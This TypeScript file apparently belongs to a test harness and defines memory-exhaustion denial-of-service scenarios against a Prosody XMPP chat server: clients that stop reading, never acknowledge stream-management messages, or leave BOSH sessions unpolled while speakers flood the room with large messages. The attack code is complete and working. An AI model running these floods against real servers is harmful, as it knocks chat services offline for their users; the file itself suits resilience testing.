import { setTimeout as wait } from 'node:timers/promises';
import { DOMAIN, Participant, send } from './participant.js';

/**
 * Attacks by participants who neither read nor acknowledge the messages of their room, so that Prosody has to keep them.
 * Their sessions stay alive, because they still answer pings.
 */

/** The speakers' messages, which the room copies to each participant. */
const SPEAKERS = 8;
const large = 'y'.repeat(15_000);

async function enter(address: string, room: string): Promise<Participant> {
  const participant = await Participant.join(address, room);
  participant.socket.on('message', () => participant.forget());
  return participant;
}

async function speak(speaker: Participant, text: string): Promise<void> {
  while (!speaker.closed) {
    speaker.say(text);
    // As much as is accepted from a participant.
    await wait(text.length > 1_000 ? 1_000 : 20);
  }
}

/** Participants speak in a room to others, each of whom `listen` has join. */
async function hear(
  { address, room, report }: Where,
  listeners: number,
  text: string,
  listen: () => Promise<unknown>,
): Promise<void> {
  const speakers = await Promise.all(Array.from({ length: SPEAKERS }, () => enter(address, room)));
  await Promise.all(Array.from({ length: listeners }, () => listen().catch(() => {})));
  report();
  await Promise.all(speakers.map((speaker) => speak(speaker, text)));
}

/** Joins over BOSH, and then sends no more requests. */
async function overBosh(address: string, room: string): Promise<void> {
  const HTTPBIND = 'http://jabber.org/protocol/httpbind';
  let [rid, sid] = [1_000, ''];
  const body = (attributes: string, inside: string) =>
    `<body xmlns='${HTTPBIND}' rid='${rid++}'${sid && ` sid='${sid}'`} ${attributes}>${inside}</body>`;
  const post = async (attributes: string, inside = ''): Promise<string> =>
    (await send(address, `/http-bind?room=${room}`, body(attributes, inside))).text;
  const opened = await post(
    `to='${DOMAIN}' ver='1.6' wait='1' hold='1' xmlns:xmpp='urn:xmpp:xbosh' xmpp:version='1.0'`,
  );
  sid = /\ssid=['"]([^'"]+)/.exec(opened)?.[1] ?? '';
  await post('', "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>");
  await post(`to='${DOMAIN}' xmpp:restart='true' xmlns:xmpp='urn:xmpp:xbosh'`);
  const bound = await post(
    '',
    "<iq type='set' id='bind' xmlns='jabber:client'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></iq>",
  );
  const nick = /<jid>([^@]{8})/.exec(bound)?.[1] ?? '';
  await post(
    '',
    `<presence xmlns='jabber:client' to='${room}@conference.${DOMAIN}/${nick}'><x xmlns='http://jabber.org/protocol/muc'/></presence>`,
  );
}

interface Where {
  readonly address: string;
  readonly room: string;
  /** Tells the observer that the attack is under way. */
  readonly report: () => void;
}

export const unread = (where: Where): Readonly<Record<string, () => Promise<void>>> => {
  const { address, room } = where;
  return {
    'participants who do not read': () =>
      hear(where, 40, large, async () => {
        const participant = await enter(address, room);
        participant.socket.pause();
        setInterval(() => participant.socket.ping(), 3_000);
      }),
    'participants who do not acknowledge': () =>
      hear(where, 100, 'x', async () => {
        const participant = await enter(address, room);
        participant.send("<enable xmlns='urn:xmpp:sm:3' resume='true'/>");
      }),
    'BOSH sessions that are not polled': () => hear(where, 60, large, () => overBosh(address, room)),
  };
};
